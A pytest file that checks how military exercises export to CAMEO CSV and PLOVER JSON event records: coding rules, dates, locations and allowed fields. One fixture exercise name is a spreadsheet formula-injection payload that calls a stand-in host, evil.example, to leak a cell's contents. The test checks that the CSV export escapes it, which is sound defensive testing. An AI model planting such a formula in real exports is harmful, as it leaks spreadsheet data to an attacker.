"""Event records: what exercises are in CAMEO and PLOVER, and why."""

import csv
import json
from io import StringIO

import pytest

from export_support import exported
from vedette.export.events import mapping
from vedette.store import Catalogue

FIELDS = frozenset(
    (
        "id",
        "date",
        "enddate",
        "source",
        "recipient",
        "event",
        "mode",
        "context",
        "quad_code",
        "event_loc",
        "link",
        "cite_info",
        "coder",
        "comment",
    )
)
"""Names of fields of PLOVER's manual."""


def acts(catalogue: Catalogue) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(exported("cameo", catalogue).decode())))


def records(catalogue: Catalogue) -> dict[str, dict[str, object]]:
    return {str(r["comment"]).partition(";")[0]: r for r in map(json.loads, exported("plover", catalogue).splitlines())}


def test_a_joint_exercise_is_cooperation_both_ways(catalogue: Catalogue) -> None:
    kenso = [a for a in acts(catalogue) if a["name"] == "Kenso Shield 2019"]
    assert [(a["source"], a["target"], a["cameo"], a["root"], a["quad"]) for a in kenso] == [
        ("AUSMIL", "JPNMIL", "062", "06", "2"),
        ("JPNMIL", "AUSMIL", "062", "06", "2"),
    ]
    record = records(catalogue)["Kenso Shield 2019"]
    assert (record["event"], record["context"], record["quad_code"]) == (["COOPERATE"], ["military"], 2)
    assert record["source"] == record["recipient"]
    assert [(s["code"], s["sector"]) for s in record["source"]] == [("AUS", "MIL"), ("JPN", "MIL")]  # type: ignore[attr-defined]
    assert (record["date"], record["enddate"]) == ("2019-07-01", "2019-07-09")
    assert record["event_loc"] == [{"name": "Darwin", "latitude": -12.46, "longitude": 130.84, "country code": "AU", "cc3": "AUS"}]


def test_what_is_announced_is_an_agreement(catalogue: Catalogue) -> None:
    bell = [a for a in acts(catalogue) if a["name"] == "Frost Bell"]
    assert len(bell) == 6
    assert {(a["cameo"], a["plover"], a["date"], a["enddate"], a["date_precision"]) for a in bell} == {
        ("0312", "AGREE", "2031-06-01", "2031-08-31", "season")
    }
    assert {a["source"] for a in bell} == {"NORMIL", "SWEMIL", "IGOMIL"}
    record = records(catalogue)["Frost Bell"]
    assert (record["event"], record["context"]) == (["AGREE"], ["military", "future"])


def test_a_drill_of_one_state_shows_force(catalogue: Catalogue) -> None:
    codes = {a["name"]: (a["source"], a["target"], a["cameo"]) for a in acts(catalogue) if a["target"] == "NA"}
    assert codes["Red Lantern"] == ("RUSMIL", "NA", "152")  # a snap check raises readiness
    assert codes["'" + '=HYPERLINK("https://evil.example/?"&A1)'] == ("NAMMIL", "NA", "150")
    record = records(catalogue)["Red Lantern"]
    assert (record["event"], record["mode"], record["quad_code"]) == (["MOBILIZE"], ["troops"], 4)
    assert "recipient" not in record


def test_what_was_called_off_or_has_no_date_is_no_event(catalogue: Catalogue) -> None:
    assert "Still Water" not in {a["name"] for a in acts(catalogue)}
    assert set(records(catalogue)) == {"Kenso Shield 2019", "Frost Bell", "Red Lantern", '=HYPERLINK("https://evil.example/?"&A1)'}


def test_records_have_fields_of_the_manual_only(catalogue: Catalogue) -> None:
    for record in records(catalogue).values():
        assert set(record) <= FIELDS
        assert {"id", "date", "source", "event"} <= set(record)  # what the manual requires


@pytest.mark.parametrize("row", mapping(), ids=lambda r: f"{r.parties}-{r.status}-{r.kind or r.only or 'any'}")
def test_every_code_has_its_reason(row: object) -> None:
    assert len(row.why.split()) > 5  # type: ignore[attr-defined]
    assert row.cameo is None or row.cameo[:2] in {"03": "AGREE", "06": "COOPERATE", "15": "MOBILIZE"}  # type: ignore[attr-defined]
    assert row.cameo is None or {"03": "AGREE", "06": "COOPERATE", "15": "MOBILIZE"}[row.cameo[:2]] == row.plover  # type: ignore[attr-defined]


def test_every_exercise_finds_a_row() -> None:
    plain = {(r.parties, r.status) for r in mapping() if r.kind is None and r.only is None}
    assert plain == {(p, s) for p in ("joint", "single") for s in ("held", "ahead")}
